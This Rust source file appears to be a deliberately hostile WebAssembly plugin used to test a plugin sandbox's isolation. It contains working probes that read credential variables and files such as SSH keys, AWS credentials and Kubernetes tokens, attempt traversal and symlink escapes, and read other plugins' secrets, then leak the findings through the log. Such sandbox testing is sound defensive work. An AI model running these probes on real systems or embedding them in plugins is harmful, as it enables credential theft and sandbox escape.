//! HOSTILE: looks for secrets everywhere a plugin could reach, and returns (and logs) what
//! it found. The sandbox must make every probe come back empty or denied.
//!
//! Capabilities: `wasmbox:config/get`, `wasmbox:kv/get`, `wasmbox:log/write` (a subset of
//! what `discount-rules` is granted, so it loads in the discount slot of the sample app).
//!
//! | export | report |
//! |---|---|
//! | `quote` | everything below in one JSON object |
//! | `env` | `{"vars": {…}, "args": […]}`: the WASI environment and arguments |
//! | `files` | `{"preopens": […], "reads": {path: result}, "listings": {dir: result}}` |
//! | `escape` | `{path: result}`: `../` traversal and symlinks out of every preopen |
//! | `capabilities` | `{"config": {key: result}, "kv": {"ns/key": result}}`: secrets of other plugins |
//!
//! A result is `"ok: <first bytes>"` when the probe succeeded (a leak) or `"error: …"`.

use std::collections::BTreeMap;
use std::fs;

use serde_json::{json, Map, Value};
use wasmbox_pdk::{config, kv, plugin_fn};

const SECRET_VARS: &[&str] = &[
    "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "DB_PASSWORD", "DATABASE_URL", "SPRING_DATASOURCE_PASSWORD",
    "GITHUB_TOKEN", "HOME", "PATH", "USER", "JAVA_HOME",
];

const SECRET_FILES: &[&str] = &[
    "/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/proc/self/cmdline",
    "/root/.ssh/id_rsa", "/home/app/.aws/credentials", "application.yaml", "../application.yaml",
    "/app/config/application.yaml", "/var/run/secrets/kubernetes.io/serviceaccount/token",
];

const DIRS: &[&str] = &["/", ".", "..", "/etc", "/tmp", "/data", "/sandbox", "/home", "/proc/self"];

fn show(r: std::io::Result<Vec<u8>>) -> Value {
    match r {
        Ok(bytes) => {
            let text = String::from_utf8_lossy(&bytes[..bytes.len().min(160)]).into_owned();
            Value::String(format!("ok: {}", text))
        }
        Err(e) => Value::String(format!("error: {}", e)),
    }
}

fn env_report() -> Value {
    let vars: BTreeMap<String, String> = std::env::vars_os()
        .map(|(k, v)| (k.to_string_lossy().into_owned(), v.to_string_lossy().into_owned()))
        .collect();
    let mut named = Map::new();
    for name in SECRET_VARS {
        named.insert(name.to_string(), match std::env::var(name) {
            Ok(v) => Value::String(format!("ok: {}", v)),
            Err(e) => Value::String(format!("error: {}", e)),
        });
    }
    json!({"vars": vars, "named": named, "args": std::env::args_os().map(|a| a.to_string_lossy().into_owned()).collect::<Vec<_>>()})
}

#[cfg(target_arch = "wasm32")]
mod wasi {
    #[link(wasm_import_module = "wasi_snapshot_preview1")]
    extern "C" {
        #[link_name = "fd_prestat_get"]
        pub fn prestat_get(fd: u32, buf: *mut u8) -> u16;
        #[link_name = "fd_prestat_dir_name"]
        pub fn prestat_dir_name(fd: u32, path: *mut u8, len: usize) -> u16;
    }
}

/// The preopened directories, found by probing file descriptors the way wasi-libc does.
fn preopens() -> Vec<Value> {
    #[allow(unused_mut)]
    let mut found = Vec::new();
    #[cfg(target_arch = "wasm32")]
    for fd in 3u32..64 {
        let mut prestat = [0u8; 8];
        if unsafe { wasi::prestat_get(fd, prestat.as_mut_ptr()) } != 0 {
            continue;
        }
        let len = u32::from_le_bytes([prestat[4], prestat[5], prestat[6], prestat[7]]) as usize;
        let mut name = vec![0u8; len.min(4096)];
        let errno = unsafe { wasi::prestat_dir_name(fd, name.as_mut_ptr(), name.len()) };
        found.push(json!({"fd": fd, "path": String::from_utf8_lossy(&name), "errno": errno}));
    }
    found
}

fn files_report() -> Value {
    let mut reads = Map::new();
    for path in SECRET_FILES {
        reads.insert(path.to_string(), show(fs::read(path)));
    }
    let mut listings = Map::new();
    for dir in DIRS {
        let listing = match fs::read_dir(dir) {
            Ok(entries) => Value::Array(
                entries.filter_map(|e| e.ok()).take(50).map(|e| Value::String(e.file_name().to_string_lossy().into_owned())).collect(),
            ),
            Err(e) => Value::String(format!("error: {}", e)),
        };
        listings.insert(dir.to_string(), listing);
    }
    json!({"preopens": preopens(), "reads": reads, "listings": listings})
}

fn escape_report() -> Value {
    let mut out = Map::new();
    let mut bases: Vec<String> = preopens()
        .iter()
        .filter_map(|p| p["path"].as_str().map(String::from))
        .collect();
    for b in [".", "/", "/data", "/tmp"] {
        if !bases.iter().any(|x| x == b) {
            bases.push(b.to_string());
        }
    }
    for base in &bases {
        let base = base.trim_end_matches('/');
        for traversal in ["../../../../../../etc/passwd", "../", "./../../etc/hosts", "sub/../../../etc/passwd"] {
            let path = format!("{}/{}", base, traversal);
            out.insert(path.clone(), show(fs::read(&path)));
        }
        // Plant symlinks inside the preopen that point outside it, then read through them.
        for (i, target) in ["/etc/passwd", "../../../../../../etc/passwd", "/proc/self/environ"].iter().enumerate() {
            let link = format!("{}/.snoop-link-{}", base, i);
            let _ = fs::remove_file(&link);
            #[allow(deprecated)]
            let made = fs::soft_link(target, &link);
            let result = match made {
                Ok(()) => show(fs::read(&link)),
                Err(e) => Value::String(format!("error: symlink refused: {}", e)),
            };
            out.insert(format!("{} -> {}", link, target), result);
            let _ = fs::remove_file(&link);
        }
        // Hard links and renames out of the preopen.
        let hard = format!("{}/.snoop-hard", base);
        out.insert(format!("hard_link /etc/passwd -> {}", hard), match fs::hard_link("/etc/passwd", &hard) {
            Ok(()) => show(fs::read(&hard)),
            Err(e) => Value::String(format!("error: {}", e)),
        });
        out.insert(format!("write {}/../escaped.txt", base), match fs::write(format!("{}/../escaped.txt", base), b"pwned") {
            Ok(()) => Value::String("ok: written".into()),
            Err(e) => Value::String(format!("error: {}", e)),
        });
    }
    Value::Object(out)
}

fn capability_report() -> Value {
    let mut cfg = Map::new();
    for key in ["DB_PASSWORD", "db.password", "spring.datasource.password", "secret", "api_key", "../currency", "*", ""] {
        let r = match config::get(key) {
            Ok(Some(v)) => Value::String(format!("ok: {}", v)),
            Ok(None) => Value::String("error: not found".into()),
            Err(e) => Value::String(format!("error: {}", e)),
        };
        cfg.insert(key.to_string(), r);
    }
    let mut store = Map::new();
    for (ns, key) in [("billing", "card"), ("secrets", "db"), ("coupons", "uses/WELCOME10"), ("../coupons", "x"), ("", "x"), ("fraud", "blocklist")] {
        let r = match kv::get(ns, key) {
            Ok(Some(v)) => Value::String(format!("ok: {}", String::from_utf8_lossy(&v))),
            Ok(None) => Value::String("error: not found".into()),
            Err(e) => Value::String(format!("error: {}", e)),
        };
        store.insert(format!("{}/{}", ns, key), r);
    }
    json!({"config": cfg, "kv": store})
}

fn loot(report: Value) -> Value {
    // A real attacker also pushes the loot out through any channel it has: here, the log.
    let text = report.to_string();
    wasmbox_pdk::warn!("snooped: {}", &text[..text.len().min(2000)]);
    report
}

/// Runs every probe.
#[plugin_fn]
pub fn quote(_order: Vec<u8>) -> Value {
    loot(json!({"env": env_report(), "files": files_report(), "escape": escape_report(), "capabilities": capability_report()}))
}

/// The WASI environment and arguments.
#[plugin_fn]
pub fn env() -> Value {
    loot(env_report())
}

/// Preopens, secret files and directory listings.
#[plugin_fn]
pub fn files() -> Value {
    loot(files_report())
}

/// Traversal and symlink escapes from every preopen.
#[plugin_fn]
pub fn escape() -> Value {
    loot(escape_report())
}

/// Config keys and kv namespaces that belong to others.
#[plugin_fn]
pub fn capabilities() -> Value {
    loot(capability_report())
}

wasmbox_pdk::manifest! {
    exports = [quote, env, files, escape, capabilities],
    capabilities = ["wasmbox:config/get", "wasmbox:kv/get", "wasmbox:log/write"],
}
